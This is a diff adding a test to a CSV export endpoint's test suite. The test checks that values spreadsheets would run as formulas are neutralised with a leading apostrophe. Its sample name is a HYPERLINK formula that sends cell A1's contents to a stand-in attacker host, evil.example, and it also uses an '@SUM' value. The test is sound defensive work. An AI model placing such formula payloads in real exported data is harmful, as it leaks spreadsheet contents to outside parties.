@@ -310,4 +310,15 @@ describe('GET /api/servidores/export.csv', () => {
   it('takes no paging (400)', async () => {
     expect((await csv('page=2')).statusCode).toBe(400);
   });
+
+  it('writes a name that a spreadsheet would run as a formula as plain text', async () => {
+    const nombre = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
+    const creado = await ctx.t.app.inject({ method: 'POST', url: '/api/servidores', headers: ctx.headers, payload: { ...NUEVO, nombre, notas: '@SUM(1+1)' } });
+    expect(creado.statusCode).toBe(201);
+    const res = await csv('q=evil.example');
+    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"`);
+    const [fila] = parse(res.body, { bom: true, from_line: 2 }) as string[][];
+    expect(fila![0]).toBe(`'${nombre}`);
+    expect(fila![9]).toBe("'@SUM(1+1)");
+  });
 });
